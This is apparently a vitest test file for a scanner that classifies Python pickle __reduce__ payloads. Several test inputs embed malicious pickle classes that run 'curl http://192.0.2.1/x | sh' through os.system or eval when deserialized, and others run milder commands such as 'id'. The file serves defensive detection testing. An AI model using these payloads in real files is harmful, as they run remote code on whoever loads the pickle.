// Classes whose objects start something when a pickle is read: judged as the call that reading makes.
import { describe, expect, it } from 'vitest';
import { decision, verdicts } from './support.ts';

const reducing = (body: string): string =>
  `import os, subprocess, pickle\nclass P:\n    def __reduce__(self):\n        ${body}\npickle.dump(P(), open("m.pkl", "wb"))\n`;

describe('a function with its arguments', () => {
  const COMMAND = 'curl http://192.0.2.1/x | sh';

  it.each([
    [`import os\nclass P: pass\nP.__reduce__ = lambda self: (os.system, ("${COMMAND}",))\n`],
    [
      `import os, copyreg\nclass P: pass\ndef red(p):\n    return os.system, ("${COMMAND}",)\ncopyreg.pickle(P, red)\n`,
    ],
  ])('is judged wherever it is given back: %s', async (text) => {
    expect(await verdicts('a.py', text)).toContain('CODE-PIPE-SHELL HIGH');
    expect(await decision('a.py', text.replace(COMMAND, 'make test'))).toBe('pass');
  });
});

describe('what an object is made of again', () => {
  it.each([
    ['return os.system, ("curl http://192.0.2.1/x | sh",)'],
    ['return (os.system, ("curl http://192.0.2.1/x | sh",))'],
    ['c = "curl http://192.0.2.1/x | sh"\n        return subprocess.getoutput, (c,)'],
    ["return eval, (\"__import__('os').system('curl http://192.0.2.1/x | sh')\",)"],
  ])('is blocked where it is a command that fetches: %s', async (body) => {
    expect(await verdicts('a.py', reducing(body))).toContain('CODE-PIPE-SHELL HIGH');
  });

  it.each([
    ['return os.system, ("id",)'],
    ['return (subprocess.Popen, (["touch", "/tmp/x"],))'],
    ['return exec, ("x = 1",), None'],
  ])('is held where it is another one: %s', async (body) => {
    expect(await verdicts('a.py', reducing(body))).toContain('CODE-PICKLE-COMMAND MEDIUM');
    expect(await decision('a.py', reducing(body).replace('__reduce__', 'plan'))).toBe('pass');
  });

  it.each([
    ['return type(self), (self.a,)'],
    ['return P, (), self.__dict__'],
    ['return getattr, (os, "sep")'],
    ['return "name"'],
  ])('passes: %s', async (body) => {
    expect(await decision('a.py', reducing(body))).toBe('pass');
  });
});
